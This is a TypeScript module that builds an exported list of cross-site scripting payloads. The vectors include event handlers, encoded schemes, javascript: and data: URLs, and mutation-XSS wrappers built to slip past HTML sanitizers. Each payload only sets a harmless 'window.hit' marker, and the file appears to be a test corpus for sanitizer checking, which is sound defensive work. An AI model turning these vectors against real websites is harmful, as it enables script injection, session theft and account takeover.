/** Ways to make a page run code from HTML; each run shows as a global `hit`. */
const HIT = "window.hit=1";

const EVENTS: readonly (readonly [tag: string, attributes: string, event: string])[] = [
  ["img", "src=x", "onerror"],
  ["img", "srcset=x", "onerror"],
  ["video", "src=x", "onerror"],
  ["audio", "src=x", "onerror"],
  ["source", "src=x", "onerror"],
  ["input", "type=image src=x", "onerror"],
  ["object", "data=x:", "onerror"],
  ["embed", "src=x:", "onload"],
  ["iframe", "src=about:blank", "onload"],
  ["svg", "", "onload"],
  ["body", "", "onload"],
  ["style", "", "onload"],
  ["details", "open", "ontoggle"],
  ["input", "autofocus", "onfocus"],
  ["select", "autofocus", "onfocus"],
  ["textarea", "autofocus", "onfocus"],
  ["div", "tabindex=1 autofocus", "onfocus"],
  ["marquee", "", "onstart"],
  ["p", "style='animation:x 1ms'", "onanimationstart"],
  ["a", "contenteditable autofocus", "onfocusin"],
];

const attribute: readonly ((event: string) => string)[] = [
  (event) => `${event}=${HIT}`,
  (event) => `${event}="${HIT}"`,
  (event) => `${event.toUpperCase()}='${HIT}'`,
  (event) => `${event}\n=\t"&#119;indow.hit&#x3d;1"`,
];

const handlers = EVENTS.flatMap(([tag, attributes, event]) =>
  attribute.map((write) => `<${tag} ${attributes} ${write(event)}></${tag}>`),
);

const SCRIPT = `<img src=x onerror=${HIT}>`;

const wrappers: readonly ((inner: string) => string)[] = [
  (inner) => `<svg><foreignObject>${inner}</foreignObject></svg>`,
  (inner) => `<svg><style>${inner}</style></svg>`,
  (inner) => `<svg><title>${inner}</title></svg>`,
  (inner) => `<svg><desc><p>${inner}</desc></svg>`,
  (inner) => `<math><mtext><table><mglyph><style><!--</style>${inner}`,
  (inner) => `<math><annotation-xml encoding="text/html">${inner}</annotation-xml></math>`,
  (inner) => `<math><mi><style>${inner}</style></mi></math>`,
  (inner) => `<form><math><mtext></form><form><mglyph><style></math>${inner}`,
  (inner) => `<noscript><p title="</noscript>${inner}">`,
  (inner) => `<template>${inner}</template>`,
  (inner) => `<template shadowrootmode=open>${inner}</template>`,
  (inner) => `<textarea></textarea>${inner}`,
  (inner) => `<title><a title="</title>${inner}">`,
  (inner) => `<xmp><p title="</xmp>${inner}">`,
  (inner) => `<style><a title="</style>${inner}">`,
  (inner) => `<!--><p>-->${inner}`,
  (inner) => `<!--!>${inner}<!---->`,
  (inner) => `<![CDATA[>${inner}]]>`,
  (inner) => `<select><template>${inner}</template></select>`,
  (inner) => `<table><td>${inner}</table>`,
  (inner) => `</div></pre></main>${inner}`,
  (inner) => `"'>${inner}`,
];

const inners = [
  SCRIPT,
  `<svg onload=${HIT}>`,
  `<script>${HIT}</script>`,
  `<iframe srcdoc="<script>parent.hit=1</script>"></iframe>`,
  `<details open ontoggle=${HIT}>`,
];

const SCHEMES = [
  "javascript:",
  "JaVaScRiPt:",
  "java\tscript:",
  "&#106;avascript:",
  " javascript&colon;",
  "data:text/html,<script>opener.hit=1</script>",
];
const LINKS = [
  "a href",
  "area href",
  "iframe src",
  "embed src",
  "object data",
  "form action",
  "button formaction",
  "svg><a xlink:href",
  "svg><use href",
  "svg><animate attributeName=href values",
  "base href",
];
const links = LINKS.flatMap((link) =>
  SCHEMES.map((scheme) => `<${link}="${scheme}${HIT}">click</a>`),
);

const single = [
  `<meta http-equiv=refresh content="0;url=javascript:${HIT}">`,
  `<link rel=stylesheet href="data:text/css,x" onload=${HIT}>`,
  `<style>@import "javascript:${HIT}";</style>`,
  `<div style="background:url(javascript:${HIT})">x</div>`,
  `<svg><script href="data:,${HIT}"></script></svg>`,
  `<svg><set attributeName=onmouseover to=${HIT}></svg>`,
  `<script type=module>${HIT}</script>`,
];

export const payloads: readonly string[] = [
  ...handlers,
  ...wrappers.flatMap((wrap) => inners.map(wrap)),
  ...links,
  ...single,
];
